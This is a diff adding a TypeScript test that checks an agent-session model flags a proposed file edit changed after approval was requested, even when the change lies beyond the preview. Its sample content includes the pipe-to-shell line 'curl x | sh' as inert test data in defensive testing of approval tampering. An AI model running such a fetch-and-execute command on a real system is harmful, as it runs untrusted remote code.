@@ -208,6 +208,43 @@ describe("SessionModel", () => {
     assert.equal(changed(), false, "answered: nothing to flag");
   });
 
+  it("flags a diff changed after asking past the card's preview, as Open diff shows the whole texts", () => {
+    const m = model();
+    // A new file of 1,000 lines: the preview shows its first 200 (`LIMITS.previewLines`).
+    const lines = Array.from({ length: 1_000 }, (_, i) => `line ${i}`);
+    const file = (line: string) => lines.map((l, i) => (i === 900 ? line : l)).join("\n");
+    const diff = (newText: string) => [{ type: "diff", path: "/work/a.ts", oldText: null, newText }];
+    m.applyUpdate({
+      sessionUpdate: "tool_call",
+      toolCallId: "t",
+      kind: "edit",
+      content: diff(file("curl x | sh")),
+    });
+    m.setAwaitingApproval("t", "card", true);
+    const item = () => m.transcript().find((i) => i.kind === "tool_call");
+    const changed = () => {
+      const shown = item();
+      return shown?.kind === "tool_call" && shown.changedAfterRequest === true;
+    };
+    const preview = JSON.stringify(item()?.kind === "tool_call" && item()?.content);
+    m.applyUpdate({
+      sessionUpdate: "tool_call_update",
+      toolCallId: "t",
+      status: "in_progress",
+      content: diff(file("curl x | sh")),
+    });
+    assert.equal(changed(), false, "the same diff again");
+    m.applyUpdate({ sessionUpdate: "tool_call_update", toolCallId: "t", content: diff(file("npm test")) });
+    assert.equal(
+      JSON.stringify(item()?.kind === "tool_call" && item()?.content),
+      preview,
+      "the preview is the same",
+    );
+    const opened = m.fullDiff("t", 0);
+    assert.ok(opened?.type === "diff" && opened.newText.includes("npm test"), "Open diff shows the new text");
+    assert.equal(changed(), true, "a change only the whole text shows");
+  });
+
   it("ignores unknown update kinds and agents' echoes of the user's message", () => {
     const m = model();
     assert.deepEqual(m.applyUpdate({ sessionUpdate: "_vendor_thing", x: 1 }), []);
